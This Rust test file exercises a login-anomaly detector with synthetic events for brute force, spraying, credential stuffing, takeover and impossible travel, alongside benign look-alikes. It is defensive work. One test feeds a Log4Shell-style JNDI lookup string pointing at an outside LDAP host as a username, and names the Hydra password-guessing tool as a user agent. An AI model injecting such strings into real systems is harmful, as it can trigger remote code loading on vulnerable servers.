//! Each attack beside the piece of ordinary life that it resembles, and bodies that make no sense.

use super::*;
use crate::{inference, patrols, score::score_rows};
use serde_json::Map;

const START: i64 = 1_772_438_400;
const CHROME: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36";

fn body(value: Value) -> Fields {
    Fields(value.as_object().cloned().unwrap_or_default())
}

/// The verdicts on bodies, in order.
fn scored(bodies: Vec<Value>) -> Vec<Map<String, Value>> {
    let (config, inference) = (patrols::Config::default(), inference::Config::default());
    let rows = bodies.into_iter().map(body);
    let scored = score_rows("auth-sentry", &config, &inference, rows).unwrap();
    scored.map(|row| row["scored"].as_object().cloned().unwrap()).collect()
}

fn flagged(verdict: &Map<String, Value>) -> bool {
    verdict.get("score").and_then(Value::as_f64).is_some_and(|score| score >= 0.5)
}

fn categories(verdicts: &[Map<String, Value>]) -> Vec<&str> {
    let flagged = verdicts.iter().filter(|verdict| flagged(verdict));
    flagged.filter_map(|verdict| verdict["category"].as_str()).collect()
}

/// A login on a portal that tells agent and place.
fn portal(at: i64, user: &str, from: &str, good: bool, agent: &str, place: (f64, f64)) -> Value {
    json!({
        "ts": START + at, "event": "login", "outcome": if good { "success" } else { "failure" },
        "user": user, "src_ip": from, "host": "portal", "user_agent": agent,
        "lat": place.0, "lon": place.1,
    })
}

const BERLIN: (f64, f64) = (52.5, 13.4);
const TOKYO: (f64, f64) = (35.7, 139.7);
const HOME: &str = "84.17.3.9";

/// A fortnight of Ann's working days at home: three logins each, at no fixed hours.
fn past() -> Vec<Value> {
    let days = (0..14i64).filter(|day| day % 7 < 5);
    let at = days.flat_map(|day| {
        [0, 9_000, 21_000].map(|s| day * 86_400 + 28_800 + s + (day * 1_709 + s * 7) % 5_000)
    });
    at.map(|at| portal(at, "ann", HOME, true, CHROME, BERLIN)).collect()
}

/// Monday after [`past`], at nine.
const NOW: i64 = 14 * 86_400 + 32_400;

/// The verdicts on what follows Ann's past.
fn after_past(bodies: Vec<Value>) -> Vec<Map<String, Value>> {
    let past = past();
    let known = past.len();
    let mut all = scored(past.into_iter().chain(bodies).collect());
    assert!(!all.iter().take(known).any(flagged), "Ann's past is flagged");
    all.split_off(known)
}

#[test]
fn guessing_is_flagged_within_five_failures_and_typing_errors_are_not() {
    let guess = |n: i64| {
        json!({"ts": START + n * 3, "event": "failed_password", "user": "root",
               "src_ip": "203.0.113.9", "host": "web-1", "session": format!("sshd[{n}]")})
    };
    let attack = scored((0..8).map(guess).collect());
    assert!(attack.iter().take(5).any(flagged), "{attack:?}");
    assert!(categories(&attack).contains(&"brute_force"), "{:?}", categories(&attack));
    let reasons = attack[7]["reasons"].to_string();
    assert!(reasons.contains("failures of this address in a day"), "{reasons}");
    let typing = [(0, false), (7, false), (19, false), (31, true)];
    let typing = typing.map(|(at, good)| portal(NOW + at, "ann", HOME, good, CHROME, BERLIN));
    assert!(!after_past(typing.to_vec()).iter().any(flagged));
}

#[test]
fn slow_guessing_is_flagged_and_a_client_with_an_old_password_is_not() {
    let guess = |n: i64| portal(n * 600, "carl", "203.0.113.9", false, CHROME, TOKYO);
    let attack = scored((0..12).map(guess).collect());
    assert!(attack.iter().any(flagged));
    let retry = |n: i64| portal(NOW + n * 300, "ann", HOME, false, CHROME, BERLIN);
    let retries = after_past((0..20).map(retry).collect());
    assert!(!retries.iter().any(flagged), "{retries:?}");
}

#[test]
fn a_spray_is_flagged_and_an_office_at_nine_is_not() {
    let spray = |n: i64| portal(n * 30, &format!("p{n}"), "203.0.113.9", false, CHROME, TOKYO);
    let attack = scored((0..15).map(spray).collect());
    assert!(categories(&attack).contains(&"password_spraying"), "{:?}", categories(&attack));
    let mut office = Vec::new();
    for day in 0..5 {
        for n in 0..20 {
            let (at, user) = (day * 86_400 + 28_800 + n * 11, format!("p{n}"));
            if (n + day) % 9 == 0 {
                office.push(portal(at - 8, &user, "84.17.3.1", false, CHROME, BERLIN));
            }
            office.push(portal(at, &user, "84.17.3.1", true, CHROME, BERLIN));
        }
    }
    office.sort_by_key(|body| body["ts"].as_i64());
    let verdicts = scored(office);
    assert!(!verdicts.iter().any(flagged), "{:?}", categories(&verdicts));
}

#[test]
fn many_addresses_after_one_account_are_flagged_and_a_roaming_telephone_is_not() {
    let botnet = |n: i64| {
        let from = format!("{}.{}.7.9", 31 + n * 7, 90 + n);
        portal(NOW + n * 120, "ann", &from, false, CHROME, TOKYO)
    };
    let attack = after_past((0..16).map(botnet).collect());
    assert!(categories(&attack).contains(&"password_spraying"), "{:?}", categories(&attack));
    let roaming = |n: i64| {
        let from = format!("109.40.{}.{}", 10 + n % 3, 17 + n * 11);
        portal(NOW + n * 5_000, "ann", &from, true, CHROME, BERLIN)
    };
    assert!(!after_past((0..12).map(roaming).collect()).iter().any(flagged));
}

#[test]
fn a_leaked_list_is_flagged_and_named() {
    let agent = "python-requests/2.31";
    let stuff = |n: i64| {
        let user = format!("someone{}", n * 7919 % 100_000);
        portal(n * 2, &user, "203.0.113.9", n % 25 == 24, agent, TOKYO)
    };
    let attack = scored((0..60).map(stuff).collect());
    assert!(categories(&attack).contains(&"credential_stuffing"), "{:?}", categories(&attack));
}

#[test]
fn a_takeover_is_flagged_and_a_new_laptop_is_not() {
    let (agent, from) = ("Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Firefox/115.0", "203.0.113.9");
    let tries = [(0, false), (15, false), (40, false), (71, false), (400, true)];
    let tries = tries.map(|(at, good)| portal(NOW + at, "ann", from, good, agent, TOKYO));
    let attack = after_past(tries.to_vec());
    assert!(flagged(&attack[4]), "{:?}", attack[4]);
    assert_eq!(attack[4]["category"], "account_takeover");
    let techniques = attack[4]["techniques"].to_string();
    assert!(techniques.contains("T1078"), "{techniques}");
    let laptop = portal(NOW, "ann", HOME, true, agent, BERLIN);
    assert!(!flagged(&after_past(vec![laptop])[0]));
}

#[test]
fn two_places_at_once_are_flagged_and_a_flight_is_not() {
    let agent = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Version/17 Safari/605.1";
    let here = portal(NOW, "ann", HOME, true, CHROME, BERLIN);
    let there = portal(NOW + 3_600, "ann", "203.0.113.9", true, agent, TOKYO);
    let attack = after_past(vec![here.clone(), there]);
    assert!(flagged(&attack[1]), "{:?}", attack[1]);
    assert_eq!(attack[1]["category"], "impossible_travel");
    let reasons = attack[1]["reasons"].to_string();
    assert!(reasons.contains("km/h") && reasons.contains("network is new"), "{reasons}");
    let landed = portal(NOW + 17 * 3_600, "ann", "203.0.113.9", true, CHROME, TOKYO);
    assert!(!flagged(&after_past(vec![here, landed])[1]));
}

#[test]
fn a_script_on_a_persons_account_is_flagged_and_a_service_is_not() {
    let agent = "python-requests/2.31";
    let bot = |n: i64| portal(NOW + n * 60, "ann", "203.0.113.9", true, agent, BERLIN);
    let attack = after_past((0..40).map(bot).collect());
    assert!(categories(&attack).contains(&"automated_login"), "{:?}", categories(&attack));
    let service = |n: i64| portal(n * 900, "svc.sync", "10.0.4.9", true, agent, BERLIN);
    assert!(!scored((0..60).map(service).collect()).iter().any(flagged));
}

#[test]
fn few_guesses_over_a_day_are_flagged_by_counts_and_a_forgotten_password_is_not() {
    let at = |n: i64, user: &str, from: &str| {
        json!({"ts": START + n, "event": "login_failed", "user": user, "src_ip": from})
    };
    let names = ["root", "admin", "oracle", "test"];
    let slow: Vec<_> = (0..5i64)
        .map(|n| at(n * 3 * 3_600, names[n as usize % 4], "203.0.113.9"))
        .collect();
    let verdicts = scored(slow);
    let first = verdicts.iter().position(flagged);
    assert!(first.is_some_and(|first| first < 5), "{verdicts:?}");
    let reasons = verdicts[4]["reasons"].to_string();
    assert!(reasons.contains("never let in from this address, remarkable from 4 on"), "{reasons}");
    // Ann at a hotel, who no longer knows her own password, and at last does.
    let hotel = |n: i64| portal(NOW + n * 40, "ann", "198.51.100.7", n == 3, CHROME, BERLIN);
    let told = after_past((0..4).map(hotel).collect());
    let counted = told.iter().filter(|v| v["reasons"].to_string().contains("remarkable from"));
    assert_eq!(counted.count(), 0);
}

#[test]
fn what_names_no_address_is_not_blamed_for_the_guesses_before_it() {
    let guess = |n: i64| {
        json!({"ts": START + n, "event": "login_failed", "user": "root", "src_ip": "203.0.113.9"})
    };
    let mut all: Vec<Value> = (0..8).map(guess).collect();
    all.push(json!({"ts": START + 9, "event": "logon", "user": "ann", "host": "pc-7"}));
    all.push(json!({"ts": START + 10, "event": "session_closed", "user": "ann", "host": "pc-7"}));
    let verdicts = scored(all);
    assert!(flagged(&verdicts[7]) && !flagged(&verdicts[8]) && !flagged(&verdicts[9]));
}

#[test]
fn who_was_let_in_before_is_not_blamed_for_guesses_beside_them() {
    let office = "84.17.3.1";
    let mut all: Vec<Value> = (0..40i64)
        .map(|n| portal(n * 9_000, &format!("p{}", n % 4), office, true, CHROME, BERLIN))
        .collect();
    let begin = 40 * 9_000;
    for n in 0..30i64 {
        let guess = portal(begin + n * 10, &format!("x{n}"), office, false, CHROME, BERLIN);
        all.push(guess);
        if n % 10 == 9 {
            all.push(portal(begin + n * 10 + 3, "p1", office, true, CHROME, BERLIN));
        }
    }
    let owners: Vec<bool> = all.iter().map(|b| b["outcome"] == "success").collect();
    let verdicts = scored(all);
    let of = |owner: bool| {
        let some = verdicts.iter().zip(&owners).filter(|(_, is)| **is == owner);
        some.filter(|(verdict, _)| flagged(verdict)).count()
    };
    assert!(of(false) > 5, "the guesses carry the finding");
    assert_eq!(of(true), 0, "{verdicts:?}");
}

#[test]
fn a_gate_without_accounts_and_an_account_without_address_are_both_judged() {
    let local = |n: i64| {
        json!({"ts": START + n, "event": "su_failed", "actor": "bob", "target_user": "root"})
    };
    let verdicts = scored((0..3).map(local).collect());
    assert!(verdicts.iter().all(|verdict| verdict.get("error").is_none()));
    let nobody = scored(vec![json!({"ts": START, "event": "other", "host": "web-1"})]);
    assert_eq!(nobody[0]["level"], "none");
}

#[test]
fn bad_bodies_are_refused_or_read_as_far_as_they_go() {
    let long = "x".repeat(10_000_000);
    let bodies = vec![
        json!({"ts": START}),
        json!({"ts": START, "event": 7}),
        json!({"ts": "yesterday", "event": "login"}),
        json!({"ts": START, "event": "login", "outcome": ["x"], "user": {}, "src_ip": []}),
        json!({"ts": START, "event": "login", "outcome": "failure", "lat": "NaN", "lon": 1e308,
               "repeated": -5, "user": 7, "src_ip": "not an address", "session": 1.5}),
        json!({"ts": 1, "event": "login", "outcome": "failure", "user": 7, "src_ip": "::::"}),
        json!({"ts": START, "event": long, "user": long, "src_ip": long, "user_agent": long}),
    ];
    let verdicts = scored(bodies);
    let refused: Vec<bool> = verdicts.iter().map(|v| v.contains_key("error")).collect();
    assert_eq!(refused, [true, true, true, false, false, false, false], "{verdicts:?}");
}

#[test]
fn annotations_change_nothing() {
    let plain = past();
    let labelled = plain.iter().enumerate().map(|(n, body)| {
        let mut body = body.clone();
        for name in crate::body::ANNOTATIONS {
            body[*name] = json!(["brute_force", "cowrie.login.failed", "1"][n % 3]);
        }
        body
    });
    assert_eq!(scored(labelled.collect()), scored(plain));
}

#[test]
fn a_repeated_event_is_not_learnt_twice_and_secrets_are_not_quoted() {
    let mut sentry = maker(&Config::default())(Some(Class::Client));
    let body = body(json!({"event": "login_failed", "user": "ann", "src_ip": "203.0.113.9",
                           "password": "hunter2"}));
    let ts = magsentinel_bus_schema::Timestamp::from_micros(START * 1_000_000);
    let mut of = |repeated| {
        let mut rows = Rows::new(Input::Values(WIDTH));
        let kind = Kind::Auth;
        let seen = Seen { kind, body: &body, ts, ts_refused: false, repeated, timed: true };
        sentry.features(&seen, &mut rows).unwrap();
        let Row::Values(row) = rows.row(0) else { return Vec::new() };
        row.to_vec()
    };
    of(false);
    let (again, once_more) = (of(true), of(true));
    assert_eq!(again, once_more);
    assert_eq!(sentry.report()["keys"], 1);
    let excerpt = sentry.excerpt(&body, 200);
    assert!(excerpt.contains("ann") && !excerpt.contains("hunter2"), "{excerpt}");
}

#[test]
fn patterns_name_what_needs_no_past() {
    let at = |value: Value| scored(vec![value]).remove(0);
    let tool = at(json!({"ts": START, "event": "login", "outcome": "failure", "user": "ann",
                         "src_ip": "203.0.113.9", "user_agent": "Hydra/9.5"}));
    assert_eq!((&tool["level"], &tool["category"]), (&json!("high"), &json!("brute_force")));
    let code = at(json!({"ts": START, "event": "login_failed", "src_ip": "203.0.113.9",
                         "user": "${jndi:ldap://203.0.113.9/a}"}));
    assert_eq!(code["category"], "injection");
    let reverse = at(json!({"ts": START, "event": "break_in_attempt", "src_ip": "203.0.113.9"}));
    assert_eq!((&reverse["level"], &reverse["category"]), (&json!("low"), &json!("recon")));
}

#[test]
fn five_failures_from_unknown_surroundings_are_flagged_and_the_owners_are_not() {
    let (elsewhere, other) = ("203.0.113.9", "Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0");
    let tries = |gap: i64, from: &str, agent: &str| {
        let one = |n| portal(NOW + n * gap, "ann", from, false, agent, BERLIN);
        after_past((0..5).map(one).collect())
    };
    // Of one who is in no hurry, too.
    for gap in [30, 1_200, 9_000] {
        let guessing = tries(gap, elsewhere, other);
        assert!(guessing.iter().any(flagged), "every {gap} seconds: {guessing:?}");
        assert!(categories(&guessing).contains(&"brute_force"), "{:?}", categories(&guessing));
    }
    let hotel = tries(30, elsewhere, CHROME);
    assert!(!hotel.iter().any(flagged), "her own laptop, elsewhere: {hotel:?}");
    let home = tries(30, HOME, other);
    assert!(!home.iter().any(flagged), "a new laptop, at home: {home:?}");
}

#[test]
fn who_is_told_that_the_password_expired_typed_the_right_one() {
    let phone = "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 Chrome/126.0 Mobile";
    let tries = |expired: Option<i64>| {
        let at = [(0, false), (8, false), (19, false), (33, false), (41, false), (1_500, true)];
        let one = |(n, (at, good)): (i64, (i64, bool))| {
            let mut body = portal(NOW + at, "ann", "203.0.113.9", good, phone, BERLIN);
            if expired == Some(n) {
                body["reason"] = json!("password_expired");
            }
            body
        };
        after_past((0..).zip(at).map(one).collect())
    };
    assert!(tries(None).iter().any(flagged));
    let owner = tries(Some(1));
    assert!(!owner.iter().any(flagged), "{owner:?}");
}

#[test]
fn a_new_device_that_fails_in_a_burst_is_flagged_and_one_that_retries_is_not() {
    let telephone = "CompanyMail/17 (iOS)";
    let tries = |gap: i64, count: i64| {
        let one = |n| portal(NOW + n * gap, "ann", HOME, false, telephone, BERLIN);
        after_past((0..count).map(one).collect())
    };
    let inside = tries(2, 5);
    assert!(inside.iter().any(flagged), "{inside:?}");
    let retries = tries(20, 12);
    assert!(!retries.iter().any(flagged), "{retries:?}");
}

#[test]
fn three_guesses_and_a_login_from_new_surroundings_are_flagged_and_two_are_not() {
    let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Firefox/115.0";
    let guessed = |failures: i64| {
        let one = |n| portal(NOW + n * 15, "ann", "203.0.113.9", n == failures, agent, BERLIN);
        after_past((0..=failures).map(one).collect())
    };
    let taken = guessed(3);
    assert!(flagged(&taken[3]), "{taken:?}");
    assert_eq!(taken[3]["category"], "account_takeover");
    let owner = guessed(2);
    assert!(!owner.iter().any(flagged), "her new laptop, in a train: {owner:?}");
}

#[test]
fn slow_tries_at_nobody_are_flagged_and_an_account_that_is_let_in_is_not() {
    let told = |n: i64, user: Option<&str>, event: &str| {
        let mut body = json!({"ts": START + n * 2_900, "event": event, "service": "sshd",
            "src_ip": "203.0.113.9", "host": "web-1", "session": format!("sshd[{n}]")});
        if let Some(user) = user {
            body["user"] = json!(user);
        }
        body
    };
    // PAM names who was tried, but for accounts that do not exist.
    let nobody = scored((0..5).map(|n| told(n, None, "auth_failure")).collect());
    assert!(nobody.iter().any(flagged), "{nobody:?}");
    let first = [told(0, Some("ann"), "accepted")];
    let later = (1..6).map(|n| told(n, Some("ann"), "auth_failure"));
    let owner = scored(first.into_iter().chain(later).collect());
    assert!(!owner.iter().any(flagged), "{owner:?}");
}

#[test]
fn who_is_refused_with_an_expired_password_on_the_first_day_is_not_flagged() {
    let tries = |expired: bool| {
        let at = [0, 15, 42, 45, 62, 64, 75, 81];
        let one = |(n, at): (usize, i64)| {
            let reason = if expired && n == 3 { "password_expired" } else { "wrong_password" };
            let mut body = portal(at, "ann", "28.16.38.190", false, CHROME, BERLIN);
            body["reason"] = json!(reason);
            body
        };
        scored(at.into_iter().enumerate().map(one).collect())
    };
    assert!(tries(false).iter().any(flagged));
    let owner = tries(true);
    assert!(!owner.iter().any(flagged), "{owner:?}");
}
